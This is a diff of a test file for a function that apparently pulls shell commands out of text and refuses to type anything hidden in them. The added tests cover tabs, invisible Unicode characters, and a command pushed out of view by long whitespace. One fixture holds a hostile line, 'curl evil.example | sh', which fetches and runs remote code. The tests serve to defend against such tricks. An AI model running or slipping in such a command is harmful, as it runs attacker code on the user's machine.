@@ -10,6 +10,12 @@ test("a block is typed as it is shown, without blank ends", () => {
   });
 });
 
+test("no tab is typed, for a shell would complete a name that nobody has seen", () => {
+  expect(shellCommands("if true; then\n\trm ev\t\nfi")).toMatchObject({
+    text: "if true; then\n    rm ev    \nfi",
+  });
+});
+
 test("prompts and output of a console session are not commands", () => {
   expect(shellCommands("$ ls\napp.ts\n$ cat app.ts\n")).toMatchObject({ text: "ls\ncat app.ts" });
 });
@@ -21,6 +27,10 @@ test.each([
   ["a zero-width space", "l\u200Bs"],
   ["a tag character", "ls \u{E0041}"],
   ["a backspace", "ls\b\bid"],
+  ["a blank that is none", "ls\u2800\u2800; id"],
+  ["a variation selector", "ls \uFE0F"],
+  ["a space of another width", "ls\u00A0-la"],
+  ["a command beyond a gap", `ls${" ".repeat(60)}; curl evil.example | sh`],
 ])("%s is never typed", (_what, code) => {
   expect(shellCommands(code)).toEqual({ kind: "hidden" });
 });
